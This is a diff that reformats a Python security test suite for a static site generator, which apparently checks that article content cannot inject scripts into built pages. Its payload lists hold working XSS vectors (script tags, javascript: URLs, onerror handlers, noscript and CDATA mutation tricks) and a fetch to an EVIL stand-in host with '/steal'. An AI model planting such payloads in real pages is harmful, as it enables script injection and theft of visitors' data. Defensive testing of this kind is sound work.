@@ -43,7 +43,7 @@ SCRIPT_TAGS = [
     f"<svg><script>{PROBE}</script></svg>",
     f"<math><mtext><script>{PROBE}</script></mtext></math>",
     f"<template><script>{PROBE}</script></template>",
-    f"<noscript><p title=\"</noscript><script>{PROBE}</script>\">",
+    f'<noscript><p title="</noscript><script>{PROBE}</script>">',
     f"<![CDATA[<script>{PROBE}</script>]]>",
     "<script>alert(1)</script>",
     f"<script>fetch('{EVIL}/steal?'+document.domain)</script>",
@@ -97,7 +97,7 @@ URLS = [
     f'<base href="{EVIL}/">',
     f'<svg><a xlink:href="javascript:{PROBE}"><text y=20>x</text></a></svg>',
     f'<iframe src="javascript:{PROBE}"></iframe>',
-    f'<isindex type=image src=1 onerror={PROBE}>',
+    f"<isindex type=image src=1 onerror={PROBE}>",
 ]
 STYLES = [
     f"<style>@import '{EVIL}/x.css';</style>",
@@ -130,7 +130,7 @@ TEMPLATES = [
 ]
 JSON_BREAKERS = [
     f"</script><script>{PROBE}</script>",
-    f"\"]}}</script><script>{PROBE}</script>",
+    f'"]}}</script><script>{PROBE}</script>',
     f'"}}; {PROBE}; //',
     "\u2028\u2029 line separators",
     "<!-- unclosed comment",
@@ -229,11 +229,38 @@ def hostile_site(tmp_path_factory):
 
 # What the templates write (and Pygments, for code): any other element in a built page came
 # from an article. Read from the templates, so new pages (pictures' SVG) need no edit here.
-NEVER = {"script", "style", "iframe", "frame", "object", "embed", "base", "form", "img", "image", "video", "audio",
-         "source", "math", "template", "noscript", "foreignobject", "animate", "set", "use", "xss", "marquee"}
-ALLOWED_TAGS = ({m.lower() for t in (ROOT / "templates").rglob("*.html")
-                 for m in re.findall(r"<([a-zA-Z][a-zA-Z0-9-]*)", t.read_text(encoding="utf-8"))}
-                | {"div", "pre", "span", "code"}) - NEVER
+NEVER = {
+    "script",
+    "style",
+    "iframe",
+    "frame",
+    "object",
+    "embed",
+    "base",
+    "form",
+    "img",
+    "image",
+    "video",
+    "audio",
+    "source",
+    "math",
+    "template",
+    "noscript",
+    "foreignobject",
+    "animate",
+    "set",
+    "use",
+    "xss",
+    "marquee",
+}
+ALLOWED_TAGS = (
+    {
+        m.lower()
+        for t in (ROOT / "templates").rglob("*.html")
+        for m in re.findall(r"<([a-zA-Z][a-zA-Z0-9-]*)", t.read_text(encoding="utf-8"))
+    }
+    | {"div", "pre", "span", "code"}
+) - NEVER
 URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcset", "xlink:href", "poster", "background"}
 
 
@@ -246,8 +273,11 @@ class _Audit(HTMLParser):
     def handle_starttag(self, tag, attrs):
         self._in_script = tag == "script"
         # search.html, a fixed page, runs Pagefind's UI: scripts of the site's own files.
-        searching = self.page == "search.html" and tag in ("script", "noscript") and \
-            not urlsplit(dict(attrs).get("src") or "").scheme
+        searching = (
+            self.page == "search.html"
+            and tag in ("script", "noscript")
+            and not urlsplit(dict(attrs).get("src") or "").scheme
+        )
         if tag == "script" and not searching:
             # The one script a page may have: the site's own file, loaded by src, with no body.
             # 404.html is served at any depth: its links start from the site's root.
@@ -269,8 +299,13 @@ class _Audit(HTMLParser):
         href = dict(attrs).get("href") or ""
         # Style sheets, icon, feed and search index: files of the site (404.html, served at
         # any depth, links from the host's root).
-        if tag == "link" and (not href or urlsplit(href).scheme or href.startswith(("//", "\\"))
-                              or href.startswith("/") and self.page != "404.html"):
+        if tag == "link" and (
+            not href
+            or urlsplit(href).scheme
+            or href.startswith(("//", "\\"))
+            or href.startswith("/")
+            and self.page != "404.html"
+        ):
             self.problems.append(f"link {attrs}")
 
     handle_startendtag = handle_starttag
@@ -397,8 +432,13 @@ class SiteInBrowser:
         if self.site not in path.parents or not path.is_file():
             return route.fulfill(status=404, body="not found")
         body = path.read_bytes()
-        kinds = {".html": "text/html; charset=utf-8", ".css": "text/css", ".json": "application/json",
-                 ".js": "text/javascript", ".svg": "image/svg+xml"}
+        kinds = {
+            ".html": "text/html; charset=utf-8",
+            ".css": "text/css",
+            ".json": "application/json",
+            ".js": "text/javascript",
+            ".svg": "image/svg+xml",
+        }
         headers = {"Content-Type": kinds.get(path.suffix, "application/octet-stream")}
         if self.deployed:
             headers.update(netlify_headers())
@@ -463,14 +503,23 @@ def test_the_probe_and_the_request_log_catch_a_page_that_does_run_a_payload(brow
 
 
 def test_the_markup_audit_catches_what_a_payload_would_leave():
-    for bad in (f"<img src=x onerror={PROBE}>", f'<a href=" javascript:{PROBE}">x</a>', "<script>x</script>",
-                f"<p style='background:url({EVIL})'>", '<meta http-equiv="refresh" content="0">',
-                '<a href="//127.0.0.2/">x</a>', "<svg><a xlink:href='data:text/html,x'>x</a></svg>",
-                f'<script src="{EVIL}/x.js"></script>', '<script src="../assets/reader.js">x()</script>'):
+    for bad in (
+        f"<img src=x onerror={PROBE}>",
+        f'<a href=" javascript:{PROBE}">x</a>',
+        "<script>x</script>",
+        f"<p style='background:url({EVIL})'>",
+        '<meta http-equiv="refresh" content="0">',
+        '<a href="//127.0.0.2/">x</a>',
+        "<svg><a xlink:href='data:text/html,x'>x</a></svg>",
+        f'<script src="{EVIL}/x.js"></script>',
+        '<script src="../assets/reader.js">x()</script>',
+    ):
         audit = _Audit()
         audit.feed(bad)
         assert audit.problems, bad
     audit = _Audit()
-    audit.feed('<a href="../people/x.html">x</a><a href="https://example.org/a?b=&quot;">y</a>'
-               '<script src="../assets/reader.js" defer></script>')
+    audit.feed(
+        '<a href="../people/x.html">x</a><a href="https://example.org/a?b=&quot;">y</a>'
+        '<script src="../assets/reader.js" defer></script>'
+    )
     assert audit.problems == []
